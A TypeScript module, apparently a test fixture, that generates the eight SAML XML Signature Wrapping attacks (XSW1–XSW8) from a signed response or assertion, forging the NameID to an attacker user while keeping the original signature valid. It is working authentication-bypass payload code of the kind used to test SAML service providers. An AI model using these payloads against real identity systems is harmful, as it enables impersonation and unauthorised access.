/**
 * Signature wrapping attacks (the eight forms of Somorovsky et al., "On Breaking SAML"). The signature of a real
 * response remains valid for one element while another one is read.
 */
type Wrap = (signed: string) => string;

const EVIL = "chefin@spital.example";

/** For a signed response. */
export const WRAPPED_RESPONSES: Record<string, Wrap> = {
  "XSW1: the signed response is inside the signature of a forged one": (signed) =>
    withIn(forge(signed, "Response"), signatureOf(signed), unsigned(signed), "after"),
  "XSW2: the signed response is before the signature, in a forged one": (signed) =>
    withIn(forge(signed, "Response"), signatureOf(signed), unsigned(signed), "before"),
};

/** For a signed assertion. */
export const WRAPPED_ASSERTIONS: Record<string, Wrap> = {
  "XSW3: a forged assertion before the signed one": (signed) =>
    signed.replace("<saml:Assertion ", `${forgedAssertion(signed)}<saml:Assertion `),
  "XSW3, after it": (signed) => signed.replace("</samlp:Response>", `${forgedAssertion(signed)}</samlp:Response>`),
  "XSW4: the signed assertion in a forged one": (signed) =>
    replaceAssertion(signed, (assertion) =>
      forgedAssertion(signed).replace("</saml:Assertion>", `${assertion}</saml:Assertion>`),
    ),
  "XSW5: a forged assertion with the signature, the signed one after it": (signed) =>
    replaceAssertion(signed, (assertion) =>
      [intoAssertion(forgedAssertion(signed), signatureOf(signed)), unsigned(assertion)].join(""),
    ),
  "XSW6: the signed one inside that signature": (signed) =>
    replaceAssertion(signed, (assertion) =>
      intoAssertion(forgedAssertion(signed), intoSignature(signatureOf(signed), unsigned(assertion))),
    ),
  "XSW7: a forged assertion with the same id in Extensions": (signed) =>
    signed.replace(
      "<samlp:Status>",
      `<samlp:Extensions>${forgedAssertion(signed, true)}</samlp:Extensions><samlp:Status>`,
    ),
  "XSW8: the signed one in an Object of the forged one's signature": (signed) =>
    replaceAssertion(signed, (assertion) =>
      intoAssertion(
        forgedAssertion(signed),
        intoSignature(signatureOf(signed), `<ds:Object>${unsigned(assertion)}</ds:Object>`),
      ),
    ),
};

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;

const signatureOf = (xml: string) => SIGNATURE.exec(xml)?.[0] ?? "";

const unsigned = (xml: string) => xml.replace(SIGNATURE, "");

const replaceAssertion = (xml: string, change: Wrap) => xml.replace(ASSERTION, change);

/** Changes the user and the element's id. */
const forge = (xml: string, element: "Response" | "Assertion") =>
  unsigned(xml)
    .replace(/(<saml:NameID [^>]*>)[^<]*/, `$1${EVIL}`)
    .replace(new RegExp(`(:${element} [^>]*?\\bID=")[^"]*`), `$1_forged-${crypto.randomUUID()}`);

function forgedAssertion(signed: string, keepsId = false): string {
  const assertion = ASSERTION.exec(signed)?.[0] ?? "";
  const [, id = ""] = /:Assertion [^>]*?\bID="([^"]*)/.exec(assertion) ?? [];
  const forged = forge(assertion, "Assertion");
  return keepsId ? forged.replace(/_forged-[0-9a-f-]+/, id) : forged;
}

const intoAssertion = (assertion: string, signature: string) =>
  assertion.replace("</saml:Issuer>", `</saml:Issuer>${signature}`);

const intoSignature = (signature: string, content: string) =>
  signature.replace("</ds:Signature>", `${content}</ds:Signature>`);

/** A forged response with the signature, and with the signed element after or before it. */
function withIn(forged: string, signature: string, original: string, where: "after" | "before"): string {
  const bare = original.replace(/<\?xml[^>]*>/, "");
  const both = where === "after" ? intoSignature(signature, bare) : `${bare}${signature}`;
  return forged.replace("</saml:Issuer>", `</saml:Issuer>${both}`);
}
